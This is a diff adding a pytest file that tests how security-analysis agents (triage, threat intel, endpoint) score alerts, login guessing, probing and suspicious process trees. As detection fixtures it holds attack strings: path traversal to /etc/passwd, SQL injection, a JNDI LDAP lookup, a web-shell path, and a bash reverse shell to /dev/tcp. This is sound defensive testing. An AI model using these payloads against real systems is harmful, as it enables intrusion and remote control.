@@ -1,0 +1,216 @@
+"""What each specialist concludes from the results of its tools."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from services.agents.roster.endpoint_analyst import judgement as endpoint
+from services.agents.roster.threat_intel import judgement as intel
+from services.agents.roster.triage import judgement as triage
+from services.agents.toolkit.evidence import most_telling
+from services.agents.toolkit.signs import MALICIOUS_FROM, SUSPICIOUS_FROM, score
+from shared.contracts.investigations import Citation
+from tests.unit.agents.agent_kit import NOW, citation
+
+CITED = citation({})
+
+
+def alert(severity: str = "medium", **changes: Any) -> dict[str, Any]:
+    base = {
+        "id": "ALRT-2026-000001",
+        "title": "A rule",
+        "severity": severity,
+        "rule_id": "rule-1",
+        "count": 1,
+        "mitre_techniques": ["T1059"],
+        "entities": {"host": "web01", "user": "deploy", "process_pid": "42"},
+        "first_seen": "2026-11-22T02:00:00.000Z",
+        "last_seen": "2026-11-22T02:00:00.000Z",
+    }
+    return {**base, **changes}
+
+
+def history(dismissed: int) -> Citation:
+    return citation({"count": dismissed, "dismissed": dismissed, "hosts": [], "first_seen": None})
+
+
+def nearby(*others: dict[str, Any]) -> Citation:
+    return citation({"alerts": list(others)})
+
+
+def other(title: str = "Another", severity: str = "high", **entities: str) -> dict[str, Any]:
+    return {"id": title, "title": title, "severity": severity, "rule_id": title, "entities": entities}
+
+
+def test_a_higher_level_of_the_rule_speaks_louder() -> None:
+    levels = [
+        score(triage.rule_signs(alert(level), CITED, None)) for level in ("info", "low", "medium", "high", "critical")
+    ]
+    assert levels == sorted(levels)
+    assert len(set(levels)) == 5
+    assert levels[-1] < MALICIOUS_FROM
+
+
+def test_what_analysts_dismissed_before_speaks_half_as_loud_and_is_told() -> None:
+    signs = triage.rule_signs(alert("high"), CITED, history(3))
+    assert score(signs) == pytest.approx(score(triage.rule_signs(alert("high"), CITED, history(0))) / 2)
+    assert "dismissed 3" in signs[1].claim
+
+
+def test_a_rule_that_has_fired_for_days_speaks_half_as_loud() -> None:
+    daily = alert("high", count=40, first_seen="2026-11-18T02:00:00.000Z")
+    assert score(triage.rule_signs(daily, CITED, None)) < SUSPICIOUS_FROM
+
+
+def test_severe_alerts_of_the_same_account_or_process_are_company() -> None:
+    by_user = triage.company_signs(alert(), nearby(other(user="deploy")))
+    by_process = triage.company_signs(alert(), nearby(other(process_pid="42", user="root")))
+    assert by_user[0].weight == by_process[0].weight > 0
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        nearby(other(user="alice")),
+        nearby(other(severity="medium", user="deploy")),
+        nearby(),
+    ],
+    ids=["another account", "not severe", "none"],
+)
+def test_strangers_and_small_alerts_are_no_company(found: Citation) -> None:
+    assert triage.company_signs(alert(), found) == []
+
+
+def test_sharing_a_system_account_means_nothing() -> None:
+    ours = alert(entities={"host": "web01", "user": "root"})
+    assert triage.company_signs(ours, nearby(other(user="root"), other(user="SYSTEM"))) == []
+
+
+def test_company_alone_never_makes_a_low_alert_malicious() -> None:
+    crowd = nearby(*(other(f"rule {number}", user="deploy") for number in range(20)))
+    low = alert("low")
+    assert score([*triage.rule_signs(low, CITED, None), *triage.company_signs(low, crowd)]) < SUSPICIOUS_FROM
+
+
+def test_a_command_seen_for_days_is_ordinary_and_one_seen_today_is_not() -> None:
+    assert triage.is_ordinary({"count": 9, "first_seen": "2026-11-19T02:00:00.000Z"}, NOW)
+    assert not triage.is_ordinary({"count": 9, "first_seen": "2026-11-22T01:00:00.000Z"}, NOW)
+    assert not triage.is_ordinary({"count": 2, "first_seen": "2026-11-19T02:00:00.000Z"}, NOW)
+    assert not triage.is_ordinary({"count": 0, "first_seen": None}, NOW)
+
+
+def logins(
+    count: int, users: int = 1, first: str = "01", last: str = "02", names: tuple[str, ...] = ("deploy",)
+) -> Citation:
+    return citation(
+        {
+            "count": count,
+            "at_least": False,
+            "first_seen": f"2026-11-22T{first}:00:00.000Z" if count else None,
+            "last_seen": f"2026-11-22T{last}:00:00.000Z" if count else None,
+            "values": {"user.name": dict.fromkeys(names, 1)},
+            "distinct": {"user.name": users},
+        }
+    )
+
+
+def test_guessing_that_ends_in_a_login_is_malicious() -> None:
+    signs = intel.login_signs("192.0.2.7", logins(30), logins(1, first="02"))
+    assert [sign.kind for sign in signs] == ["guessing", "guessed-login"]
+    assert score(signs) >= MALICIOUS_FROM
+    assert "T1110.001" in signs[0].techniques
+
+
+def test_guessing_many_accounts_is_spraying() -> None:
+    assert intel.login_signs("192.0.2.7", logins(30, users=12), logins(0))[0].techniques == ("T1110.003",)
+
+
+def test_a_login_before_the_first_failure_was_not_guessed() -> None:
+    signs = intel.login_signs("192.0.2.7", logins(30, first="02", last="03"), logins(1, first="01", last="01"))
+    assert [sign.kind for sign in signs] == ["guessing"]
+
+
+def test_mistyped_passwords_are_no_guessing() -> None:
+    assert intel.login_signs("192.0.2.7", logins(3), logins(1)) == []
+    assert intel.login_signs("192.0.2.7", logins(12), logins(150)) == []
+
+
+def requests(count: int, paths: int, statuses: dict[str, int]) -> Citation:
+    values = {"http.response.status_code": statuses}
+    return citation({"count": count, "values": values, "distinct": {"url.path": paths}})
+
+
+def test_many_paths_that_are_not_there_are_probing_and_a_visit_is_not() -> None:
+    assert intel.probing_signs("192.0.2.7", requests(40, 40, {"404": 38, "200": 2}))[0].kind == "probing"
+    assert intel.probing_signs("192.0.2.7", requests(40, 40, {"200": 36, "404": 4})) == []
+    assert intel.probing_signs("192.0.2.7", requests(40, 3, {"404": 40})) == []
+
+
+@pytest.mark.parametrize(
+    ("url", "kind"),
+    [
+        ("/?file=../../../../etc/passwd", "path-traversal"),
+        ("/?file=%252e%252e%252fetc%252fpasswd", "path-traversal"),
+        ("/s?q=1%27+UNION+SELECT+NULL,NULL--", "sql-injection"),
+        ("/?q=${jndi:ldap://192.0.2.7/a}", "jndi"),
+        ("/uploads/c99.php", "web-shell"),
+        ("/.git/config", "secret-file"),
+    ],
+)
+def test_an_attack_string_in_a_request_is_named(url: str, kind: str) -> None:
+    assert kind in {sign.kind for sign in intel.request_signs(url, "Mozilla/5.0", "404", CITED)}
+
+
+@pytest.mark.parametrize(
+    "url", ["/", "/index.html?page=2", "/search?q=union+station", "/static/app.js", "/api/users/42"]
+)
+def test_a_visitors_request_gives_no_sign(url: str) -> None:
+    assert intel.request_signs(url, "Mozilla/5.0 (X11; Linux x86_64)", "200", CITED) == []
+
+
+def test_an_attack_that_was_answered_weighs_more_than_one_that_was_refused() -> None:
+    url = "/?file=../../../../etc/passwd"
+    answered = score(intel.request_signs(url, "curl", "200", CITED))
+    assert answered > score(intel.request_signs(url, "curl", "404", CITED))
+    assert answered >= MALICIOUS_FROM
+
+
+def test_an_unknown_indicator_is_told_and_never_guessed() -> None:
+    assert "45.33.32.156" in intel.unknown_note(["45.33.32.156"])
+    assert intel.sighting_sign("45.33.32.156", citation({"count": 3, "values": {}})).weight == 0
+
+
+def test_an_ordinary_tree_says_little_of_a_small_alert_and_nothing_of_a_severe_one() -> None:
+    assert 0 < endpoint.clean("medium") < 0.5
+    assert endpoint.clean("high") == endpoint.clean("critical") == 0
+
+
+def test_of_the_same_command_the_closest_process_counts() -> None:
+    found = endpoint.distinct(
+        [
+            {"command_line": "sh", "relation": "ancestor"},
+            {"command_line": "sh"},
+            {"command_line": "", "relation": "self"},
+        ]
+    )
+    assert found == [{"command_line": "sh"}]
+
+
+def test_an_odd_pair_in_a_tree_is_quoted() -> None:
+    [sign] = endpoint.pair_signs([{"parent_executable": "C:\\x\\WINWORD.EXE", "executable": "C:\\y\\cmd.exe"}], CITED)
+    assert sign.kind == "office-shell"
+    assert '"winword" started "cmd"' in sign.claim
+
+
+def test_of_many_events_the_telling_ones_are_looked_at_and_the_rest_evenly() -> None:
+    quiet = [{"log_id": str(number), "message": f"id {number}"} for number in range(50)]
+    loud = {"log_id": "loud", "message": "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"}
+    chosen = [item["log_id"] for item in most_telling([*quiet[:25], loud, *quiet[25:]], 6)]
+    assert chosen == ["loud", "0", "12", "24", "36", "49"]
+
+
+def test_lines_that_repeat_are_looked_at_once() -> None:
+    repeated = [{"log_id": str(number), "message": "the same"} for number in range(50)]
+    assert len(most_telling(repeated, 6)) == 1
